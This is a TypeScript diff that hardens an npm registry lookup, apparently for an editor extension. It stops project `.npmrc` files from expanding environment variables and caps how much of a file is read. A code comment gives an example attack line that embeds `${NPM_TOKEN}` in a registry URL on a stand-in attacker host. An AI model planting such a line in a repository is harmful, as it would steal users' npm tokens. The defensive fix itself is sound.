@@ -1,8 +1,8 @@
-import { readFileSync } from 'node:fs';
 import { homedir } from 'node:os';
 import { dirname, join, resolve } from 'node:path';
 import { chooseSafeVersion, type AdvisorySource, type Candidate } from './safeVersion';
 import { displayUrl, getJson, RegistryError, type HttpOptions } from './http';
+import { readRegularTextFile } from '../host/readRegularFile';
 
 export const NPM_PUBLIC_REGISTRY = 'https://registry.npmjs.org';
 
@@ -12,6 +12,10 @@ export const NPM_PUBLIC_REGISTRY = 'https://registry.npmjs.org';
  * file's folder and its parents up to the workspace folder), then from `~/.npmrc`, then
  * the `mcpHygiene.npmRegistry` setting, then the public registry. Only registry lines are
  * read: auth tokens in `.npmrc` are never read or sent.
+ *
+ * `${VAR}` is expanded in `~/.npmrc` only: in a project's `.npmrc` the repository would
+ * choose both the host and which of the user's environment variables go into the request
+ * (`registry=https://attacker.example/${NPM_TOKEN}/`), so such a line is refused.
  */
 export function npmRegistryFor(name: string, context: { explicit?: string; setting?: string; configFile?: string; workspaceFolder?: string; home?: string; env?: Record<string, string | undefined> }): string {
   if (context.explicit) return trimSlash(context.explicit);
@@ -26,9 +30,10 @@ export function npmRegistryFor(name: string, context: { explicit?: string; setti
       dir = dirname(dir);
     }
   }
-  files.push(join(context.home ?? homedir(), '.npmrc'));
+  const userFile = join(context.home ?? homedir(), '.npmrc');
+  files.push(userFile);
   for (const file of files) {
-    const lines = readNpmrc(file, context.env ?? process.env);
+    const lines = readNpmrc(file, file === userFile ? (context.env ?? process.env) : undefined);
     if (!lines) continue;
     if (scope && lines.get(`${scope}:registry`)) return trimSlash(lines.get(`${scope}:registry`)!);
     if (lines.get('registry')) return trimSlash(lines.get('registry')!);
@@ -36,10 +41,14 @@ export function npmRegistryFor(name: string, context: { explicit?: string; setti
   return trimSlash(context.setting || NPM_PUBLIC_REGISTRY);
 }
 
-function readNpmrc(file: string, env: Record<string, string | undefined>): Map<string, string> | undefined {
+/** Larger than any real `.npmrc`. */
+const MAX_NPMRC_BYTES = 256 * 1024;
+
+/** The registry lines of an `.npmrc`; `env` expands `${VAR}`, without it such a line is an error. */
+function readNpmrc(file: string, env: Record<string, string | undefined> | undefined): Map<string, string> | undefined {
   let text: string;
   try {
-    text = readFileSync(file, 'utf8');
+    text = readRegularTextFile(file, MAX_NPMRC_BYTES);
   } catch {
     return undefined;
   }
@@ -52,7 +61,10 @@ function readNpmrc(file: string, env: Record<string, string | undefined>): Map<s
     const key = line.slice(0, eq).trim();
     if (key !== 'registry' && !/^@[^:]+:registry$/.test(key)) continue;
     let value = line.slice(eq + 1).trim().replace(/^(["'])(.*)\1$/, '$2');
-    value = value.replace(/\$\{([^}]+)\}/g, (_, name: string) => env[name] ?? '');
+    if (value.includes('${')) {
+      if (!env) throw new RegistryError(`${file} sets ${key} with an environment variable. MCP Hygiene expands variables only in your own ~/.npmrc, as a repository could send your tokens to its server: write the URL out, or enter the version by hand.`, 'unreachable');
+      value = value.replace(/\$\{([^}]+)\}/g, (_, name: string) => env[name] ?? '');
+    }
     if (value) map.set(key, value);
   }
   return map;
